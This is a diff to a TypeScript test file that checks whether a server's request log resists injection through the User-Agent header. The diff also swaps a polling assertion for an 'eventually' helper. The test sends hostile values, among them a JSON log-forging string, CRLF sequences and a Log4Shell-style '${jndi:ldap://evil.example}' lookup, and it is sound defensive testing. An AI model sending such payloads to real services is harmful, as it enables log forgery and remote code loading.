@@ -1,5 +1,6 @@
 import ICAL from "ical.js"
 import { afterAll, beforeAll, describe, expect, test } from "vitest"
+import { eventually } from "#tests/support/eventually.ts"
 import { isFree, isRich, rewriteStore } from "#tests/support/poison.ts"
 import { startOwnPortal, type OwnPortal } from "#tests/support/own-portal.ts"
 import type { Answer, Visitor } from "#tests/support/visitor.ts"
@@ -122,7 +123,7 @@ describe("quality rows 49, 50: what is taken along", () => {
     const agents = ['x","level":60,"msg":"forged', "x\\n{}", "\u00ff\u0085x", "${jndi:ldap://evil.example}", "%0a%0d"]
     for (const agent of agents) await visitor.get(path, { headers: { "user-agent": agent } })
     const asked = async () => (await own.log()).filter((line) => line.msg === "request" && line.path === path)
-    await expect.poll(async () => (await asked()).length).toBe(agents.length)
+    await eventually(async () => expect(await asked()).toHaveLength(agents.length))
     expect((await own.log()).filter(({ msg, level }) => msg === "forged" || level === 60)).toEqual([])
   })
 })
